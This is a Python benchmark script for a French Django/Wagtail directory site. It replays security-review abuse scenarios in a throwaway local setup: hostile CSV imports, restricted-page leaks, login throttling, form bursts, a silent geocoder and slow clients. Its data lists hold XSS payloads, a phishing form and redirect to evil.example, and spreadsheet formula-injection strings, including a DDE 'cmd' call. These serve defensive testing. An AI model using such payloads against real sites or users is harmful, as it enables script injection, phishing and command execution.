"""Abuse and fault scenarios of the security review (issue 12), replayed; prints one table.

    .venv/bin/python bench/abuse.py
    DATABASE_URL=postgres://... .venv/bin/python bench/abuse.py

Not a test: figures to read (and compare before/after a change). Each scenario is one function that
returns a row {"scenario", "measure", "figure"}; add yours to SCENARIOS. Everything runs in-process
against a throwaway database, or against servers on 127.0.0.1 that the scenario starts and stops.
"""

import csv
import datetime
import io
import statistics
import threading
import time
from datetime import timedelta

from harness import ROOT, percentile, setup_django, throwaway_database

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


def row(scenario, measure, figure):
    return {"scenario": scenario, "measure": measure, "figure": figure}


def _admin_client():
    """A test client logged in as a superuser (made once)."""
    from django.contrib.auth import get_user_model
    from django.test import Client

    admin = get_user_model().objects.filter(username="abus").first()
    admin = admin or get_user_model().objects.create_superuser("abus", "abus@example.org", "x")
    client = Client()
    client.force_login(admin)
    return client


HOSTILE_DESCRIPTIONS = [
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'http-equiv="refresh"'),
    ('<form action="https://evil.example/"><input name="motdepasse"></form>', 'name="motdepasse"'),
    ('<a href="javascript:alert(1)">clic</a>', "javascript:"),
    ('<svg onload="alert(1)"></svg>', "onload="),
    ('<img src="x" onerror="alert(1)">', "onerror="),
    ("<script>alert(1)</script>", "<script>alert"),
    ('<iframe src="https://evil.example/"></iframe>', "<iframe"),
    ("<p><strong>non fermé", "<strong>non fermé</p>"),
    ("Ligne<br>suivante", "Ligne<br>suivante"),
]
FORMULAS = ['=HYPERLINK("https://evil.example/","x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]


def hostile_imports():
    """Hostile descriptions imported by CSV: markup reaching /annuaire/<slug>/, admin edit pages not 200."""
    from directory.exchange.importers import import_file
    from directory.models import Organisation

    client = _admin_client()
    rows = [[f"abus-{index}", f"Abus {index}", "13001", text] for index, (text, _) in enumerate(HOSTILE_DESCRIPTIONS)]
    import_file(_csv([["identifiant", "nom", "code_postal", "description"]] + rows))
    reached, broken = 0, 0
    for index, (_description, marker) in enumerate(HOSTILE_DESCRIPTIONS):
        organisation = Organisation.objects.get(slug=f"abus-{index}")
        html = client.get(f"/annuaire/{organisation.slug}/").content.decode()
        reached += marker in html or "evil.example" in html
        broken += client.get(f"/admin/directory/organisation/edit/{organisation.pk}/").status_code != 200
    return row(
        f"{len(HOSTILE_DESCRIPTIONS)} descriptions hostiles importées",
        "balises hostiles sur la page publique ; pages d'édition non 200",
        f"{reached} ; {broken}",
    )


def formula_cells():
    """Formula cells written by every CSV of the site (public export, admin export, import report)."""
    from directory.exchange.importers import import_file
    from directory.models import Organisation

    client = _admin_client()
    for index, formula in enumerate(FORMULAS):
        Organisation.objects.create(name=formula, address=formula, postcode="13001", source_id=f"formule-{index}")
    texts = [
        b"".join(client.get("/annuaire/export.csv").streaming_content).decode(),
        b"".join(client.get("/admin/directory/organisation/?export=csv").streaming_content).decode(),
        import_file(
            _csv([["nom", "adresse", "id_source"]] + [["x", f, f"formule-{i}"] for i, f in enumerate(FORMULAS)])
        )
        .as_csv()
        .lstrip("\ufeff"),
    ]
    cells = [cell for text in texts for row in csv.reader(io.StringIO(text)) for cell in row]
    left = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _plain_number(cell)]
    return row(f"cellules-formules ({len(cells)} cellules, 3 CSV)", "cellules laissées telles quelles", f"{len(left)}")


def _csv(rows):
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


def _plain_number(text):
    try:
        float(text)
        return True
    except ValueError:
        return False


def restricted_pages():
    """A restricted event, news item and page: listing URLs that show their title."""
    from django.test import Client
    from django.utils import timezone
    from wagtail.models import PageViewRestriction

    from agenda.models import EventIndexPage, EventPage, EventType
    from home.models import ContentPage, HomePage
    from news.models import NewsIndexPage, NewsPage

    day = timezone.localdate() + timedelta(days=2)
    event = EventPage(
        title="Permanence Secretissime",
        slug="permanence-secretissime",
        start_date=day,
        start_time=datetime.time(9),
        end_time=datetime.time(12),
        intro="x",
        event_type=EventType.PERMANENCE,
    )
    event.clean()
    EventIndexPage.objects.get().add_child(instance=event)
    event.save_revision().publish()
    news = NewsPage(title="Nouvelle Secretissime", date=day, intro="x")
    NewsIndexPage.objects.get().add_child(instance=news)
    news.save_revision().publish()
    page = ContentPage(title="Page Secretissime", intro="x", show_in_menus=True)
    HomePage.objects.get().add_child(instance=page)
    page.save_revision().publish()
    for target, kind in ((event, "password"), (news, "login"), (page, "login")):
        PageViewRestriction.objects.create(
            page=target, restriction_type=kind, password="s" if kind == "password" else ""
        )
    client = Client()
    urls = [
        "/",
        "/agenda/",
        "/agenda/permanences/",
        f"/agenda/calendrier/{day:%Y/%m}/",
        "/agenda/agenda.ics",
        "/actualites/",
        "/actualites/rss/",
        "/actualites/atom/",
        "/sitemap.xml",
        "/plan-du-site/",
        "/recherche/?q=Secretissime",
        "/recherche/suggestions/?q=Secretissime",
    ]
    leaked = []
    for url in urls:
        response = client.get(url)
        content = b"".join(response.streaming_content) if response.streaming else response.content
        if any(f"{kind} Secretissime" in content.decode() for kind in ("Permanence", "Nouvelle", "Page")):
            leaked.append(url)
    return row(
        f"pages restreintes ({len(urls)} adresses de listes)",
        "adresses qui montrent un titre restreint",
        f"{len(leaked)} {leaked or ''}".strip(),
    )


def login_failures(attempts=30):
    """30 wrong passwords on the admin login, then the right one."""
    from django.contrib.auth import get_user_model
    from django.test import Client

    get_user_model().objects.create_user("cible", "cible@example.org", "le-bon-mot-de-passe-1", is_superuser=True)
    client = Client()
    evaluated = refused = 0
    for _ in range(attempts):
        response = client.post("/admin/login/", {"username": "cible", "password": "faux"}, REMOTE_ADDR="203.0.113.9")
        if response.status_code == 429:
            refused += 1
        else:
            evaluated += 1
    right = client.post(
        "/admin/login/", {"username": "cible", "password": "le-bon-mot-de-passe-1"}, REMOTE_ADDR="203.0.113.9"
    )
    passed = right.status_code == 302
    return row(
        f"{attempts} échecs de connexion",
        "essai qui déclenche le blocage ; bon mot de passe ensuite",
        f"{evaluated + 1}e essai, puis {refused - 1} bloqués (429) ; bon mot de passe {'ACCEPTÉ' if passed else 'refusé'}",
    )


def correction_burst(count=20):
    """20 corrections posted within a second by one visitor."""
    from django.test import Client

    from directory.models import CorrectionRequest, Organisation

    organisation = Organisation.objects.public().first()
    url = f"{organisation.get_absolute_url()}signaler-une-erreur/"
    client = Client()
    before = CorrectionRequest.objects.count()
    statuses = []
    start = time.perf_counter()
    for number in range(count):
        message = {"message": f"Signalement automatique numéro {number}."}
        statuses.append(client.post(url, message, REMOTE_ADDR="198.51.100.7").status_code)
    elapsed = time.perf_counter() - start
    stored = CorrectionRequest.objects.count() - before
    return row(
        f"{count} signalements en {elapsed:.1f} s",
        "acceptés / refusés (429) / enregistrés",
        f"{statuses.count(200)} / {statuses.count(429)} / {stored}",
    )


def slow_geocoder(requests_count=10):
    """The finder's "près de" while the address service accepts connections and never answers."""
    from django.conf import settings
    from django.core.cache import cache
    from django.test import Client

    from tests.helpers.servers import silent_server

    cache.clear()
    client = Client()
    client.get("/annuaire/?pres-de=13001")  # warm
    old_url = settings.GEOCODER_URL
    timings = []
    with silent_server() as server:
        settings.GEOCODER_URL = server.url
        try:
            for number in range(requests_count):
                start = time.perf_counter()
                client.get("/annuaire/", {"pres-de": f"{number + 1} rue de la République"})
                timings.append((time.perf_counter() - start) * 1000)
        finally:
            settings.GEOCODER_URL = old_url
        calls = server.connections
    return row(
        f"géocodeur muet, {requests_count} recherches « près de »",
        "médiane / max (ms) ; appels réseau",
        f"{statistics.median(timings):.0f} / {max(timings):.0f} ms ; {calls} appel(s)",
    )


def slow_clients(drippers=3):
    """A normal request while slow clients send their headers a byte at a time (gunicorn config)."""
    import tempfile

    import requests

    from tests.helpers.servers import free_port, gunicorn, server_env, slow_client

    port = free_port()
    with tempfile.TemporaryDirectory() as folder:
        env = server_env(DATABASE_URL=f"sqlite:///{folder}/vide.sqlite3", GUNICORN_WORKERS=2, GUNICORN_ACCESS_LOG="")
        with gunicorn(port, env, config=str(ROOT / "ess_site" / "gunicorn.conf.py")):
            base = f"http://127.0.0.1:{port}/robots.txt"
            requests.get(base, timeout=30)
            stop, sent = threading.Event(), []
            threads = [threading.Thread(target=slow_client, args=(port, stop, sent, 6)) for _ in range(drippers)]
            for thread in threads:
                thread.start()
            time.sleep(1)
            timings = []
            try:
                for _ in range(20):
                    start = time.perf_counter()
                    requests.get(base, timeout=10)
                    timings.append((time.perf_counter() - start) * 1000)
            finally:
                stop.set()
                for thread in threads:
                    thread.join(timeout=5)
    return row(
        f"{drippers} clients lents (gunicorn gthread)",
        "requête normale : médiane / p95 (ms)",
        f"{statistics.median(timings):.0f} / {percentile(timings, 0.95):.0f} ms",
    )


SCENARIOS = [
    hostile_imports,
    formula_cells,
    restricted_pages,
    login_failures,
    correction_burst,
    slow_geocoder,
    slow_clients,
]


COLUMNS = (("scenario", "scénario"), ("measure", "mesure"), ("figure", "résultat"))


def print_table(rows):
    lines = [{key: title for key, title in COLUMNS}] + rows
    widths = {key: max(len(str(line[key])) for line in lines) for key, _ in COLUMNS}
    for number, line in enumerate(lines):
        print(" | ".join(str(line[key]).ljust(widths[key]) for key, _ in COLUMNS))
        if number == 0:
            print("-+-".join("-" * widths[key] for key, _ in COLUMNS))


def main():
    import logging
    import sys

    logging.disable(logging.WARNING)  # the refusals and timeouts are the point: counted, not logged
    sys.path.insert(0, str(ROOT))
    setup_django()
    from django.core.management import call_command
    from django.test.utils import override_settings

    with throwaway_database(), override_settings(ALLOWED_HOSTS=["*"]):
        call_command("load_demo_content", stdout=open("/dev/null", "w"))
        rows = []
        for scenario in SCENARIOS:
            try:
                rows.append(scenario())
            except Exception as error:  # noqa: BLE001 - one broken scenario must not hide the others
                rows.append(row(scenario.__name__, "erreur", repr(error)[:80]))
        print_table(rows)


if __name__ == "__main__":
    main()
